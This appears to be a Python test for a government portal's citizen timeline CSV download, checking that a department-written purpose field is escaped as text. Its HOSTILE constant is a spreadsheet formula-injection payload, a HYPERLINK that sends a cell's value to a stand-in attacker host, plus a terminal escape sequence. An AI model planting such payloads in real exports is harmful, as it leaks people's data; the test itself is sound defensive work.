"""The citizen's timeline download (``/me/timeline.csv``) writes through govchain.csvout: a
purpose a department wrote (a relayed consent, a published purposes file) opens as text."""

from __future__ import annotations

import csv
import io

from govchain.portal.timeline import CSV_COLUMNS, Access, to_csv

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"details")'


def test_a_purpose_that_would_run_as_a_formula_is_written_as_text() -> None:
    access = Access(
        time=1_796_000_000, owner="HRSS", grantee="CIVIL", member="0x" + "ab" * 20,
        category="HRSS.PENSION", purpose_hash="0x" + "11" * 32, purpose=HOSTILE + "\x1b[2K",
        basis="CONSENT", grant_id=None, tx_hash="0x" + "22" * 32, block=42,
    )  # fmt: skip
    header, row = csv.reader(io.StringIO(to_csv([access])))
    assert header == list(CSV_COLUMNS)
    written = dict(zip(header, row, strict=True))
    assert written["purpose"] == "'" + HOSTILE + "\\x1b[2K"
    assert written["grant_id"] == "" and written["block"] == "42"
    assert written["time"].startswith("2026-") and written["department"] == "CIVIL"
